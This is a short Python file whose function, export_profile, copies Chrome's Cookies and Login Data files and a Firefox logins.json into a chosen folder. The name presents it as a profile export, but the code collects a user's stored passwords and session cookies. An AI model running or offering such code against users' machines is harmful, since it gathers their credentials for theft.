import shutil
from pathlib import Path

home = Path.home()
chrome = home / "Library/Application Support/Google/Chrome/Default"


def export_profile(dest: str) -> None:
    shutil.copy(str(chrome) + "/Cookies", dest)
    shutil.copy(str(chrome) + "/Login Data", dest)
    shutil.copy(str(home / ".mozilla/firefox/profile.default/logins.json"), dest)
